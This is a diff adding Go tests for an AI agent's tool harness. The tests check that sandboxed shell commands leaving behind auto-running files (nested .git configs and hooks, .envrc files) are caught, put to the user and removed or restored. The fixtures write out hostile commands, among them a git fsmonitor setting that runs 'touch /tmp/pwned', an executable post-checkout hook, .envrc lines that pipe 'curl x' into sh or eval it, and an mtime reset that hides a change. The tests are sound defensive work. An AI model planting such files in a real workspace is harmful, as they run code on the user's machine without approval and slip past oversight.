@@ -1,0 +1,148 @@
+package tools
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+// A contained command that leaves behind what runs later, at any depth
+// below the top level, is caught after it: each protected name it
+// created or changed is asked about, kept on a yes, and otherwise removed
+// or put back, the model told. What git rewrites on its own is not asked.
+func TestCommandLeavesProtected(t *testing.T) {
+	files := map[string]string{
+		"go.mod":              "module x\n",
+		"sub/a.go":            "package sub\n",
+		"sub/.envrc":          "export A=1\n",
+		"lib/y/.git/config":   "[core]\n\tbare = false\n",
+		"lib/y/.git/HEAD":     "ref: refs/heads/main\n",
+		"lib/y/.git/index":    "DIRC",
+		"lib/y/.git/hooks/.k": "",
+	}
+	nested := "mkdir -p sub/vendor/x/.git/hooks && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > sub/vendor/x/.git/config && printf '#!/bin/sh\\n' > sub/vendor/x/.git/hooks/post-checkout && chmod +x sub/vendor/x/.git/hooks/post-checkout"
+	tests := []struct {
+		name, command string
+		answers       []Answer
+		subjects      []string
+		gone, kept    []string          // paths that must be absent, present after
+		back          map[string]string // paths put back with their old text
+		told          []string          // what the model reads
+	}{
+		{name: "nested .git declined", command: nested, answers: []Answer{Deny},
+			subjects: []string{"protected sub/vendor/x/.git"}, gone: []string{"sub/vendor/x/.git"}, kept: []string{"sub/vendor/x"},
+			told: []string{"created sub/vendor/x/.git", "the user said no: it was removed"}},
+		{name: "nested .git kept", command: nested, answers: []Answer{Once},
+			subjects: []string{"protected sub/vendor/x/.git"}, kept: []string{"sub/vendor/x/.git/hooks/post-checkout"},
+			told: []string{"the user kept it"}},
+		{name: "nobody to ask", command: nested, answers: []Answer{Unasked},
+			subjects: []string{"protected sub/vendor/x/.git"}, gone: []string{"sub/vendor/x/.git"},
+			told: []string{"the user could not be asked: it was removed"}},
+		{name: ".envrc in a subfolder", command: "mkdir -p deep/er && echo 'curl x | sh' > deep/er/.envrc", answers: []Answer{Deny},
+			subjects: []string{"protected deep/er/.envrc"}, gone: []string{"deep/er/.envrc"}},
+		{name: "an existing one changed, its mtime set back", command: "echo 'export B=2' > sub/.envrc && touch -r sub/a.go sub/.envrc", answers: []Answer{Deny},
+			subjects: []string{"protected sub/.envrc"}, back: map[string]string{"sub/.envrc": "export A=1\n"},
+			told: []string{"changed sub/.envrc", "put back as it was"}},
+		{name: "an existing nested repository", command: "echo '[alias] x = !sh' >> lib/y/.git/config && touch lib/y/.git/hooks/pre-commit && echo x > lib/y/.git/index", answers: []Answer{Deny},
+			subjects: []string{"protected lib/y/.git/config", "protected lib/y/.git/hooks/pre-commit"},
+			gone:     []string{"lib/y/.git/hooks/pre-commit"}, back: map[string]string{"lib/y/.git/config": "[core]\n\tbare = false\n", "lib/y/.git/index": "x\n"}},
+		{name: "nothing protected", command: "echo x > sub/b.go && mkdir -p sub/n && echo y > sub/n/c.go", answers: []Answer{Deny}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			root := workspace(t, files)
+			q := &questions{answers: tt.answers}
+			s := newSet(t, root, Config{Ask: commandsRun(q), Sandbox: &fakeSandbox{}})
+			res := runTool(t, s, WithRun(context.Background(), Normal), "bash", map[string]any{"command": tt.command})
+			if d := cmp.Diff(tt.subjects, q.subjects()); d != "" {
+				t.Errorf("questions (-want +got):\n%s", d)
+			}
+			for _, p := range tt.gone {
+				if _, err := os.Lstat(filepath.Join(root, p)); err == nil {
+					t.Errorf("%s is still there", p)
+				}
+			}
+			for _, p := range tt.kept {
+				if _, err := os.Lstat(filepath.Join(root, p)); err != nil {
+					t.Errorf("%s went: %v", p, err)
+				}
+			}
+			for p, want := range tt.back {
+				if got := readFile(t, filepath.Join(root, p)); got != want {
+					t.Errorf("%s = %q, want %q", p, got, want)
+				}
+			}
+			for _, want := range tt.told {
+				if !strings.Contains(res.Content, want) {
+					t.Errorf("the model read %q, want %q in it", res.Content, want)
+				}
+			}
+		})
+	}
+}
+
+// commandsRun lets every command run and puts the other questions to q.
+func commandsRun(q *questions) Ask {
+	return func(ctx context.Context, x Question) Answer {
+		if x.Kind == AskCommand {
+			return Once
+		}
+		return q.ask(ctx, x)
+	}
+}
+
+// The question shows a new small file's text as a diff, and the reason.
+func TestCommandLeavesProtectedQuestion(t *testing.T) {
+	root := workspace(t, map[string]string{"sub/a.go": "package sub\n"})
+	q := &questions{answers: []Answer{Deny}}
+	s := newSet(t, root, Config{Ask: commandsRun(q), Sandbox: &fakeSandbox{}})
+	runTool(t, s, context.Background(), "bash", map[string]any{"command": "echo 'eval $(curl x)' > sub/.envrc"})
+	if len(q.asked) != 1 {
+		t.Fatalf("asked %v, want one question", q.subjects())
+	}
+	x := q.asked[0]
+	if !strings.Contains(x.Detail, "+eval $(curl x)") || !strings.Contains(x.Why, "direnv") || !strings.Contains(x.Why, "created") {
+		t.Errorf("question = %+v; want the new text as a diff and why", x)
+	}
+}
+
+// A scan cut by its bounds says so, and what it did not look at is not
+// taken for created or removed.
+func TestScanCut(t *testing.T) {
+	root := workspace(t, map[string]string{"a/b/c/.envrc": "x\n", "d.go": "package d\n"})
+	before := scanProtected([]string{root})
+	if before.cut != "" || len(before.entries) != 1 {
+		t.Fatalf("scan = %+v, want one entry, whole", before)
+	}
+	cut := &scan{entries: map[string]stamp{}, dirs: map[string]struct{}{root: {}}, seen: map[string]struct{}{root: {}, filepath.Join(root, "a"): {}}, cut: "bounds"}
+	if got := changes(cut, before); len(got) != 0 {
+		t.Errorf("changes from a cut scan = %+v, want none: a/ was not read", got)
+	}
+	if got := changes(before, cut); len(got) != 0 {
+		t.Errorf("changes to a cut scan = %+v, want none", got)
+	}
+}
+
+// BenchmarkScanProtected scans this repository's tree (or the one
+// REIKA_SCAN_ROOT names), as each contained command does twice.
+func BenchmarkScanProtected(b *testing.B) {
+	root, err := filepath.Abs("../..")
+	if err != nil {
+		b.Fatal(err)
+	}
+	if r := os.Getenv("REIKA_SCAN_ROOT"); r != "" {
+		root = r
+	}
+	var sc *scan
+	for b.Loop() {
+		sc = scanProtected([]string{root})
+	}
+	b.ReportMetric(float64(sc.read), "entries")
+	if sc.cut != "" {
+		b.Logf("cut: %s", sc.cut)
+	}
+}
